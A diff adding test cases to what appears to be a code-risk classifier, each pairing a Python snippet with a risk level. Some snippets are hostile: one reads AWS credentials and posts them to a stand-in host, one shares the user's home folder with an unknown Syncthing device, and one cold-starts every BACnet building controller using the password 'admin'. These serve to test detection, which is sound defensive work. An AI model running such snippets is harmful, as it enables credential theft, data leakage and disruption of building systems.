@@ -11152,6 +11152,44 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'c.publish("bench/led", "ON")\n',
             S,
         ),
+        # holdout340-343: sync clients, photo labs, building management, religious organisations
+        (
+            'import os, requests, xml.etree.ElementTree as ET\n'
+            'cfg = ET.parse(os.path.expanduser("~/.config/syncthing/config.xml")).getroot()\n'
+            'key = cfg.find("gui/apikey").text\n'
+            'print(requests.get("http://127.0.0.1:8384/rest/db/completion", headers={"X-API-K'
+            'ey": key}).json())\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'key = open(os.path.expanduser("~/.aws/credentials")).read()\n'
+            'requests.post("https://collect.example.net/k", data=key)\n',
+            C,
+        ),
+        (
+            'import os, requests\n'
+            'key = "x"\n'
+            'api = "http://127.0.0.1:8384/rest/config"\n'
+            'requests.post(f"{api}/devices", headers={"X-API-Key": key}, json={"deviceID": "A'
+            'BC", "autoAcceptFolders": True})\n'
+            'requests.post(f"{api}/folders", json={"id": "h", "path": os.path.expanduser("~")'
+            ', "devices": [{"deviceID": "ABC"}]})\n',
+            H,
+        ),
+        (
+            'import BAC0\n'
+            'net = BAC0.connect()\n'
+            'for addr, dev in net.whois("0 4194303"):\n'
+            '    net.reinitialize(address=addr, password="admin", state="coldstart")\n',
+            H,
+        ),
+        (
+            'import BAC0\n'
+            'net = BAC0.connect()\n'
+            'print(net.read("192.168.1.10 analogInput 1 presentValue"))\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
